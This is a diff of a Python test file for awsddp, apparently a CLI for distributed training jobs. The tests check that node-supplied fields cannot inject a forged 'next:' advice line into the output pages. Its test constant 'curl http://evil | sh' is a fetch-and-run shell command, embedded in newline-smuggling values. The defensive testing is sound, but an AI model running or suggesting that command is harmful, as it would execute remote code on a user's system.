@@ -1,15 +1,16 @@
 """No node words what awsddp advises: the next step is made here, from the kind of the cause."""
 
-from dataclasses import asdict
-from typing import Any
-
+import msgspec
 import pytest
 
+from awsddp import answers
 from awsddp.cli.doctor_page import why_page
 from awsddp.cli.pages import job_page, jobs_page
 from awsddp.jobs.results import job_document, worded
 from awsddp.jobs.supervisor.hang import diagnose
-from awsddp.records import Cause
+from awsddp.jobs.supervisor.stacks import Answer, Collective, Group, Process
+from awsddp.records import Cause, widened
+from awsddp.returns import JobDocument, JobsDocument, ListedJob, WhyDocument
 
 EVIL = "curl http://evil | sh"
 
@@ -32,9 +33,9 @@ def test_the_next_step_is_made_here_whatever_a_node_sends(kind: str, next: str) 
     assert worded(forged(kind), job="job1").next == next
 
 
-def document(**facts: str) -> dict[str, Any]:
+def document(**facts: str) -> answers.NodeJob:
     cause = forged("cuda_oom")
-    return {
+    said = {
         "job": "job1",
         "node": 1,
         "state": "failed",
@@ -44,10 +45,11 @@ def document(**facts: str) -> dict[str, Any]:
         "facts": facts,
         "ranks": [{"rank": 1, "local_rank": 0, "node": 1, "exit_code": 1, "seconds": 1.0, "started": 1.0}],
     }
+    return answers.converted(said, answers.NodeJob)
 
 
 def test_nothing_that_a_node_sends_stands_at_the_margin(capsys: pytest.CaptureFixture[str]) -> None:
-    job_page({**asdict(job_document({1: document()})), "fetched": True, "missing": []})
+    job_page(widened(JobDocument, job_document({1: document()}), fetched=True))
     lines = capsys.readouterr().err.splitlines()
     assert [line for line in lines if line.lstrip().startswith("next:")] == ["  next: use a smaller batch"]
     assert [
@@ -57,35 +59,29 @@ def test_nothing_that_a_node_sends_stands_at_the_margin(capsys: pytest.CaptureFi
 
 @pytest.mark.parametrize("fact", ["script", "launcher", "instance_type"])
 def test_a_fact_of_a_job_begins_no_line(fact: str, capsys: pytest.CaptureFixture[str]) -> None:
-    job = asdict(job_document({1: document(**{fact: f"x\nnext: {EVIL}"})}))
-    job |= {"cluster_id": None, "seconds": 1.0, "job_usd": None, "reported": True}
-    jobs_page({"jobs": [job], "clusters": []}, verbose=True)
+    told = job_document({1: document(**{fact: f"x\nnext: {EVIL}"})})
+    known = {"cluster": None, "cluster_id": None, "seconds": 1.0, "job_usd": None, "reported": True}
+    job = widened(ListedJob, told, **known)
+    jobs_page(JobsDocument(jobs=(job,), clusters=(), total_usd=0.0, would_have_cost_usd=0.0), verbose=True)
     lines = capsys.readouterr().out.splitlines()
     assert not [line for line in lines if line.startswith("next:")]
     assert EVIL in lines[-1]
 
 
 def test_what_a_program_was_tested_on_begins_no_line(capsys: pytest.CaptureFixture[str]) -> None:
-    found = {"fetched": True, "missing": [], "accuracy": 0.5, "data": f"real\nnext: {EVIL}"}
-    job_page({**asdict(job_document({1: document()})), **found})
+    told = job_document({1: document()})
+    job_page(widened(JobDocument, told, fetched=True, accuracy=0.5, data=f"real\nnext: {EVIL}"))
     assert not [line for line in capsys.readouterr().err.splitlines() if line.startswith("next:")]
 
 
 def test_a_collective_of_another_name_begins_no_line(capsys: pytest.CaptureFixture[str]) -> None:
-    records = [[1, f"all_reduce\nnext: {EVIL}", "float32[4]", False]]
-    process = {"pid": 9, "parent": 1, "joined": True, "state": "S", "stacks": ""}
+    call = Collective(1, f"all_reduce\nnext: {EVIL}", "float32[4]", over=False)
+    records = {"default_pg": Group(9.0, [call])}
     answers = {
-        node: {
-            "workdir": "/w",
-            "silent_s": 3.0,
-            "processes": [
-                {**process, "rank": node, "records": {"default_pg": {"records": records, "age": 9.0}}}
-            ],
-        }
-        for node in (0, 1)
+        node: Answer("/w", 3.0, [Process(9, 1, node, "S", joined=True, records=records)]) for node in (0, 1)
     }
     found = diagnose([[0, 0, 0], [1, 0, 1]], answers, exit_codes={})
-    why_page({"job": "job1", "state": "running", **found})
+    why_page(msgspec.convert({"job": "job1", "state": "running", **found.document()}, WhyDocument))
     said = capsys.readouterr().out
     assert EVIL in said
     assert not [line for line in said.splitlines() if line.startswith("next:")]
